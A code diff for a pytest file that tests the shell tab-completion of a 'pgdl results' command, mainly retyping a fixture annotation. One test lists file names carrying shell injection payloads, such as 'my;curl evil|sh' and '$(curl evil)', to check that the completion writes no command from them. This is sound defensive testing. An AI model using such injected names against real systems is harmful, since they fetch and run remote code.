@@ -3,10 +3,10 @@
 import os
 import subprocess
 import sys
-from collections.abc import Callable
 from pathlib import Path
 
 import pytest
+from in_process import Record
 
 from tests.board.board_examples import rows
 from tests.throwaway import make_task
@@ -54,14 +54,14 @@ def completed(line: str, folder: Path) -> list[str]:
         ("pgdl results --results task_data --submission my_", []),
     ],
 )
-def test_bash(line: str, expected: list[str], folder: Path, record: Callable[..., Path]) -> None:
+def test_bash(line: str, expected: list[str], folder: Path, record: Record) -> None:
     make_task(folder / "task_data")
     record([*rows("my_first"), *rows("my_second")])
     assert completed(line, folder) == expected
 
 
 @pytest.mark.parametrize("name", ["my;curl evil|sh", "my$(curl evil)", "my`curl evil`", "my\nfile,evil", "my\x1b[31m"])
-def test_names_of_strangers_write_no_command(name: str, folder: Path, record: Callable[..., Path]) -> None:
+def test_names_of_strangers_write_no_command(name: str, folder: Path, record: Record) -> None:
     make_task(folder / "task_data")
     (folder / "task_data" / "tiny").rename(folder / "task_data" / name)
     record([*rows(name), *rows("my_first")])
